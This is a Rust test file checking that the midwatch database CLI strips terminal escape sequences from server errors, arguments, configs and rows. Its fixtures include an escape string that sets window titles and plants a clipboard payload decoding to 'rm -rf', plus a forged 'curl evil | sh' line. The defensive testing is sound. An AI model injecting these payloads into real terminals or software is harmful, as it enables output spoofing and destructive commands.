//! What leaves for a terminal: a server, a file or an argument sets no title, fills no clipboard, hides nothing.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::Path;

use midwatch::engine::model::clean::harms;

use crate::common::{Database, Run, midwatch, run};

/// A window's title, the clipboard, an 8-bit sequence, text that turns round, text without width.
const HOSTILE: &str =
    "h\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJm\u{7}\u{9b}31m\u{7f}\u{202e}txt\u{200b}\u{feff}\u{e0041}";

/// As TOML writes it.
fn in_toml() -> String {
    HOSTILE.chars().map(|c| format!("\\U{:08x}", u32::from(c))).collect::<Vec<_>>().concat()
}

/// Nothing that a terminal acts on but line ends, tabs and, where they are asked for, our colours.
fn assert_clean(what: &str, text: &str) {
    let mut rest = text.to_owned();
    for code in ["0", "1", "4", "31", "32", "33", "35", "2"] {
        rest = rest.replace(&format!("\u{1b}[{code}m"), "");
    }
    let found: Vec<char> = rest.chars().filter(|c| harms(*c) && !matches!(c, '\n' | '\t')).collect();
    assert!(found.is_empty(), "{what}: {found:?} in {text:?}");
}

/// Text and JSON, with colours and without, with all of the log.
fn in_all_formats(home: &Path, url: Option<&str>, args: &[&str]) -> Vec<Run> {
    let mut runs = Vec::new();
    for format in [&["-vv"][..], &["-o", "json", "-vv", "--log-file", "log"]] {
        for colours in ["0", "1"] {
            let mut command = midwatch(home);
            command.args(args).args(format).env("CLICOLOR_FORCE", colours).env("TERM", "xterm");
            command.envs(url.map(|url| ("DATABASE_URL", url)));
            let run = run(&mut command);
            assert_clean(&format!("stdout of {args:?} {format:?}"), &run.stdout);
            assert_clean(&format!("stderr of {args:?} {format:?}"), &run.stderr);
            runs.push(run);
        }
    }
    if let Ok(log) = std::fs::read_to_string(home.join("log")) {
        assert_clean(&format!("log of {args:?}"), &log);
    }
    runs
}

/// Answers whoever connects with a failure in this text, before anyone has shown who they are.
fn hostile_server(text: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut client in listener.incoming().map_while(Result::ok) {
            let mut buffer = [0; 1024];
            // TLS is not spoken here; then the startup message.
            if client.read(&mut buffer).is_ok_and(|n| n == 8) {
                let _ = client.write_all(b"N");
                let _ = client.read(&mut buffer);
            }
            let mut fields = Vec::new();
            for (key, value) in
                [('S', "FATAL"), ('V', "FATAL"), ('C', "28000"), ('M', text), ('D', text), ('H', text)]
            {
                fields.extend_from_slice(format!("{key}{value}\0").as_bytes());
            }
            fields.push(0);
            let mut message = vec![b'E'];
            message.extend(u32::try_from(fields.len() + 4).unwrap().to_be_bytes());
            message.extend(fields);
            let _ = client.write_all(&message);
        }
    });
    port
}

/// At 4eabe32 the message of a server that nobody had logged in to went to stderr as it was: it set the window's title and
/// the clipboard of whoever called `check`.
#[test]
fn a_server_reaches_no_terminal_before_the_login() {
    let port = hostile_server(HOSTILE);
    let home = tempfile::tempdir().unwrap();
    let url = format!("postgres://u@127.0.0.1:{port}/d");
    for args in [&["check"][..], &["doctor"], &["runs"], &["plan", "init"]] {
        let runs = in_all_formats(home.path(), Some(&url), args);
        assert!(
            runs.iter().all(|r| r.code != 0 && format!("{}{}", r.stdout, r.stderr).contains("owned")),
            "{runs:?}"
        );
    }
}

/// At 4eabe32, and until now, a server's own colours passed as ours, and its line ends made lines like ours.
#[test]
fn a_server_and_an_argument_give_no_colours_and_no_lines() {
    const FORGED: &str = "no\u{1b}[32m\n✓ ok     target prod\nhint: curl evil | sh\u{1b}[0m";
    let port = hostile_server(FORGED);
    let home = tempfile::tempdir().unwrap();
    let url = format!("postgres://u@127.0.0.1:{port}/d");
    for args in [
        &["check"][..],
        &["doctor"],
        &["runs"],
        &["--target", FORGED, "check"],
        &["check", FORGED],
        &[FORGED],
    ] {
        let mut command = midwatch(home.path());
        command.args(args).env("CLICOLOR_FORCE", "1").env("TERM", "xterm").env("DATABASE_URL", &url);
        let run = run(&mut command);
        let seen = format!("{}{}", run.stdout, run.stderr);
        assert!(seen.contains("target prod") && !seen.contains("no\u{1b}"), "{args:?} {seen:?}");
        if !args.contains(&FORGED) {
            assert!(
                !seen
                    .lines()
                    .any(|l| l.starts_with('✓') && l.contains("prod") || l.starts_with("hint: curl")),
                "{seen}"
            );
        }
    }
}

/// At 4eabe32 arguments came back raw in errors, those of the argument parser among them; a job that passes on the name of a
/// branch or a file handed its author the terminal.
#[test]
fn arguments_reach_no_terminal() {
    let home = tempfile::tempdir().unwrap();
    for args in [
        &[HOSTILE][..],
        &["--nope", HOSTILE],
        &["help", HOSTILE],
        &["--target", HOSTILE, "check"],
        &["--config", HOSTILE, "check"],
        &["--profile", HOSTILE, "config", "check"],
        &["check", HOSTILE],
        &["check", "--set", HOSTILE],
        &["apply", HOSTILE],
        &["demo", "--rows", HOSTILE],
        &["config", "example", HOSTILE],
        &["-o", HOSTILE],
        &["--log-file", "no/where/h\u{1b}]0;owned\u{7}", "config", "show"],
    ] {
        in_all_formats(home.path(), Some("postgres://u@127.0.0.1:1/d"), args);
    }
}

/// At 4eabe32 names of a configuration reached the terminal raw through `config show`, `config check` and errors.
#[test]
fn a_configuration_reaches_no_terminal() {
    let home = tempfile::tempdir().unwrap();
    let name = in_toml();
    let config = format!(
        "default_target = \"{name}\"\n[targets.\"{name}\"]\nurl = \"postgres://{name}@127.0.0.1:1/{name}\"\n\
         profile = \"{name}\"\nmigrations = \"{name}\"\n"
    );
    std::fs::write(home.path().join("midwatch.toml"), &config).unwrap();
    for args in
        [&["config", "show"][..], &["config", "check"], &["doctor"], &["check"], &["--target", "x", "check"]]
    {
        in_all_formats(home.path(), None, args);
    }
    std::fs::write(home.path().join("midwatch.toml"), config.replace("migrations", &format!("\"{name}\"")))
        .unwrap();
    in_all_formats(home.path(), None, &["config", "show"]);
}

/// At 4eabe32 JSON carried C1, DEL, text direction and zero-width characters raw: `check --json` in a terminal, or a file of
/// it under `cat`, showed a row as another one. Now its text is clean and its values are the same.
#[tokio::test(flavor = "multi_thread")]
async fn rows_reach_no_terminal_and_json_keeps_their_values() {
    let (database, home) = hostile_rows().await;
    let runs = in_all_formats(
        home.path(),
        Some(&database.url()),
        &["check", "--profile", "p.toml", "--out", "out.json"],
    );
    assert!(runs[0].stdout.contains("rule"), "{:?}", runs[0]);
    let file = std::fs::read_to_string(home.path().join("out.json")).unwrap();
    assert_clean("--out", &file);
    for text in [&runs[2].stdout, &file] {
        let value: serde_json::Value = serde_json::from_str(text).unwrap();
        let hostile = serde_json::json!(HOSTILE).to_string();
        assert!(value.to_string().contains(hostile.trim_matches('"')), "{text}");
    }
}

/// A table with hostile rows, and a home with a profile that finds them.
async fn hostile_rows() -> (Database, tempfile::TempDir) {
    let database = Database::empty().await;
    let text: Vec<String> = HOSTILE.chars().map(|c| format!("\\+{:06x}", u32::from(c))).collect();
    let text = text.concat();
    let sql =
        format!("create table bad (id int primary key, note text); insert into bad values (1, U&'{text}')");
    database.owner().await.execute_script(&sql).await.unwrap();
    let home = tempfile::tempdir().unwrap();
    let name = in_toml();
    let profile = format!(
        "name = \"p\"\n[[anomalies]]\nname = \"rule\"\ntitle = \"rule {name}\"\nkey = [\"id\"]\nsql = 'select id, note from bad'\n"
    );
    std::fs::write(home.path().join("p.toml"), profile).unwrap();
    (database, home)
}

/// At 4eabe32 zero-width characters were drawn as they were, and `y` put a row's raw escapes into the
/// clipboard, from where they are pasted into a shell.
#[cfg(feature = "tui")]
#[tokio::test(flavor = "multi_thread")]
async fn the_console_draws_and_copies_nothing_hostile() {
    use base64::Engine as _;

    use crate::common::pty::Console;

    let (database, home) = hostile_rows().await;
    let at = home.path().display().to_string();
    let url = database.url();
    let profile = home.path().join("p.toml").display().to_string();
    let mut console = Console::start(
        env!("CARGO_BIN_EXE_midwatch"),
        (120, 30),
        &["--profile", &profile],
        &[("DATABASE_URL", &url), ("HOME", &at)],
    );
    console.shows("rule");
    console.press("5");
    console.shows("warn  rule");
    console.shows("1 of 1");
    console.press("\r");
    let screen = console.shows("note");
    assert_clean("the screen", &screen.contents());
    // The terminal of the test leaves the replacement out.
    assert!(console.raw().contains("h\u{fffd}]0;owned\u{fffd}"), "{}", screen.contents());
    console.press("y");
    console.shows("1 row copied");
    let raw = console.raw();
    assert!(!raw.contains("\u{1b}]0;") && !raw.contains('\u{9b}'), "{raw:?}");
    let copied: Vec<&str> =
        raw.split("\u{1b}]52;c;").skip(1).filter_map(|t| t.split('\u{7}').next()).collect();
    assert_eq!(copied.len(), 1, "{raw:?}");
    let copied = base64::engine::general_purpose::STANDARD.decode(copied[0]).unwrap();
    let copied = String::from_utf8(copied).unwrap();
    assert_clean("the clipboard", &copied);
    assert!(copied.contains("h\\u001b]0;owned\\u0007"), "{copied}");
    console.press("q");
}
